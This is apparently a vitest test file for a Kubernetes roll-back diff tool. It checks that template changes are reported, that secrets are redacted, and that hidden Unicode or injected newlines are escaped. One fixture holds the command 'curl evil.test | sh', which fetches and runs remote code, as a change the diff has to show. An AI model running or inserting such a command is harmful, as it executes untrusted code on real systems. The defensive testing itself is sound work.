import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import type { JsonRecord } from '../../../src/core/kill/json-read.ts';
import { mayRollBack } from '../../../src/core/remediate/roll-back/may-roll-back.ts';
import { templateDifferences } from '../../../src/core/remediate/roll-back/template-differences.ts';

const app = { name: 'app', image: 'shop/web:2' };

function template(container: JsonRecord = {}, spec: JsonRecord = {}, metadata: JsonRecord = {}): JsonRecord {
  return { metadata, spec: { containers: [{ ...app, ...container }], ...spec } };
}

function shown(present: JsonRecord, earlier: JsonRecord): readonly string[] {
  const may = mayRollBack(present, earlier);
  return may.ok ? may.lines : [may.why];
}

const env = (...variables: readonly (readonly [string, string])[]): JsonRecord => ({
  env: variables.map(([name, value]) => ({ name, value })),
});
const plain = template();

const told: readonly [string, JsonRecord, JsonRecord, readonly string[]][] = [
  ['the image', plain, template({ image: 'shop/web:1' }), ['container app: image shop/web:2 -> shop/web:1']],
  [
    'variables by name, never by value',
    template(env(['A', 'canary-1'], ['B', 'canary-2'])),
    template(env(['A', 'canary-3'], ['C', 'canary-4'])),
    [
      'container app: env A changed (value not shown)',
      'container app: env B removed',
      'container app: env C added (value not shown)',
    ],
  ],
  [
    'where a variable comes from',
    template({ env: [{ name: 'A', valueFrom: { configMapKeyRef: { name: 'a', key: 'k' } } }] }),
    template({ env: [{ name: 'A', valueFrom: { configMapKeyRef: { name: 'b', key: 'k' } } }] }),
    ['container app: env A valueFrom.configMapKeyRef.name a -> b'],
  ],
  [
    'the order of variables',
    template(env(['A', '1'], ['B', '2'])),
    template(env(['B', '2'], ['A', '1'])),
    ['container app: env order ["A","B"] -> ["B","A"]'],
  ],
  [
    'envFrom',
    plain,
    template({ envFrom: [{ configMapRef: { name: 'cfg' } }] }),
    ['container app: envFrom.0.configMapRef.name none -> cfg'],
  ],
  [
    'command and arguments, without what may be a secret',
    template({ command: ['/app'], args: ['--port=80'] }),
    template({ command: ['/bin/sh', '-c', 'curl evil.test | sh'], args: ['--port=80', '--api-key', 'canary'] }),
    [
      'container app: command ["/app"] -> ["/bin/sh","-c","curl evil.test | sh"]',
      'container app: args ["--port=80"] -> ["--port=80","--api-key","[redacted]"]',
    ],
  ],
  [
    'that a secret argument is another one',
    template({ args: ['--token=canary-1'] }),
    template({ args: ['--token=canary-2'] }),
    ['container app: args changed (value not shown)'],
  ],
  [
    'the security context of container and pod',
    template({ securityContext: { runAsUser: 1000 } }, { securityContext: { fsGroup: 5 } }),
    template({ securityContext: { runAsUser: 2000 } }, { securityContext: { fsGroup: 6 } }),
    ['container app: securityContext.runAsUser 1000 -> 2000', 'pod: securityContext.fsGroup 5 -> 6'],
  ],
  [
    'volumes and mounts',
    template({ volumeMounts: [{ name: 'v', mountPath: '/a' }] }, { volumes: [{ name: 'v', emptyDir: {} }] }),
    template(
      { volumeMounts: [{ name: 'w', mountPath: '/a' }] },
      { volumes: [{ name: 'w', configMap: { name: 'c' } }] },
    ),
    [
      'container app: volumeMounts./a.name v -> w',
      'volume v: removed',
      'volume w: added',
      'volume w: configMap.name none -> c',
    ],
  ],
  [
    'containers that come and go',
    { spec: { containers: [app, { name: 'old', image: 'x' }], initContainers: [{ name: 'i', image: 'a' }] } },
    { spec: { containers: [app, { name: 'log', image: 'l' }], initContainers: [{ name: 'i', image: 'b' }] } },
    [
      'container old: removed',
      'container log: added',
      'container log: image none -> l',
      'init container i: image a -> b',
    ],
  ],
  [
    'labels, and annotations without their values',
    template({}, {}, { labels: { app: 'a' }, annotations: { 'checksum/config': 'canary-1' } }),
    template({}, {}, { labels: { app: 'b' }, annotations: { 'checksum/config': 'canary-2' } }),
    ['label app a -> b', 'annotation checksum/config changed (value not shown)'],
  ],
  [
    'probes, without the headers that they send',
    template({ livenessProbe: { httpGet: { httpHeaders: [{ name: 'Authorization', value: 'canary' }] } } }),
    template({
      livenessProbe: { periodSeconds: 5, httpGet: { httpHeaders: [{ name: 'Authorization', value: 'b' }] } },
    }),
    [
      'container app: livenessProbe.httpGet.httpHeaders.Authorization.value changed (value not shown)',
      'container app: livenessProbe.periodSeconds none -> 5',
    ],
  ],
  [
    'where it is scheduled',
    template({}, { nodeSelector: { disk: 'ssd' }, tolerations: [{ key: 'a' }] }),
    template({}, { nodeSelector: { disk: 'hdd' }, tolerations: [{ key: 'b' }] }),
    ['pod: nodeSelector.disk ssd -> hdd', 'pod: tolerations.0.key a -> b'],
  ],
  ['what is empty', plain, template({ lifecycle: {} }), ['container app: lifecycle none -> {}']],
  [
    'what nobody has heard of',
    { ...plain, future: { a: 1 } },
    { ...template({}, { newField: [1, { b: 2 }] }), future: { a: 2 } },
    ['pod: newField none -> [1,{"b":2}]', 'other: future.a 1 -> 2'],
  ],
  [
    'what cannot be seen in a text',
    template({ image: 'web' }),
    template({ image: 'we\u200bb' }),
    ['container app: image web -> "we\\u{200b}b"'],
  ],
  [
    'a text that pretends to be another line',
    template({ image: 'web' }),
    template({ image: 'x\ncontainer app: image web -> web' }),
    ['container app: image web -> "x\\ncontainer app: image web -> web"'],
  ],
];

test.each(told)('a roll back tells of %s', (_, present, earlier, expected) => {
  const lines = shown(present, earlier);

  expect(lines.toSorted()).toEqual(expected.toSorted());
  expect(lines.join('\n')).not.toContain('canary');
});

test.each([
  [['--password', 'canary']],
  [['--db-password=canary']],
  [['-Dtoken=canary-1a']],
  [['sh', '-c', 'export API_KEY=canary; run']],
  [['sh', '-c', "curl -H 'Authorization: Bearer canary12' http://a"]],
  [['--url', 'postgres://user:canary@db/shop']],
  [['--config={"password":"canary"}']],
  [['--api-key', 'canary', '--verbose']],
])('a secret in a command line is not shown: %j', (args) => {
  expect(shown(plain, template({ args })).join('\n')).toMatch(/^container app: args none -> .*redacted/);
  expect(shown(plain, template({ command: args })).join('\n')).not.toContain('canary');
  expect(shown(plain, template({ lifecycle: { preStop: { exec: { command: args } } } })).join('')).not.toMatch(
    /canary/,
  );
});

const scalars = fc.oneof(fc.string({ maxLength: 20 }), fc.integer(), fc.boolean());
const anything = fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.parse(JSON.stringify(value)) as unknown);
const specs = fc.record({
  containers: fc.array(
    fc.record({
      name: fc.constantFrom('a', 'b', 'c'),
      image: fc.string(),
      args: fc.array(fc.string()),
      more: anything,
    }),
    { maxLength: 3 },
  ),
  volumes: fc.array(fc.record({ name: fc.constantFrom('v', 'w'), kind: anything }), { maxLength: 2 }),
  more: fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(scalars, anything)),
});

/** Without nulls, which count as absent. */
function withoutNulls(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(withoutNulls);
  if (typeof value !== 'object' || value === null) return value;
  const kept = Object.entries(value).filter(([, inner]) => inner !== null);
  return Object.fromEntries(kept.map(([key, inner]) => [key, withoutNulls(inner)]));
}

function sorted(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(sorted);
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).toSorted(([a], [b]) => (a < b ? -1 : 1));
  return entries.map(([key, inner]) => [key, sorted(inner)]);
}

test('whatever differs between two templates is told, and nothing where nothing does', () => {
  fc.assert(
    fc.property(specs, specs, (one, other) => {
      const [present, earlier] = [{ spec: one }, { spec: other }];
      const differ = JSON.stringify(sorted(withoutNulls(present))) !== JSON.stringify(sorted(withoutNulls(earlier)));

      expect([...templateDifferences(present, earlier)].length > 0).toBe(differ);
      expect([...templateDifferences(present, structuredClone(present))]).toEqual([]);
    }),
    { numRuns: 150, seed: 12 },
  );
});

test('what is too long to be shown is not offered, and the refusal counts it', () => {
  const many = template({ env: Array.from({ length: 200 }, (_, n) => ({ name: `VARIABLE_${n}`, value: '1' })) });
  const long = template({ args: ['x'.repeat(200_000)] });

  expect(shown(plain, many)).toEqual([expect.stringMatching(/^differs in 200 places, .* \(1\d\d left out\)/)]);
  expect(shown(plain, long)).toEqual([expect.stringMatching(/^differs in 1 place, .* \(1 left out\)/)]);
});

test.each(['\u034f', '\u180e', '\ufe0f', '\u{e0101}', '\u3164', '\u200b'])(
  'a sign that nobody sees (%j) in a command is shown by its number',
  (sign) => {
    const [line] = shown(template({ args: ['--safe'] }), template({ args: [`--sa${sign}fe`] }));

    expect(line).toContain(`--sa\\u{${(sign.codePointAt(0) ?? 0).toString(16)}}fe`);
  },
);
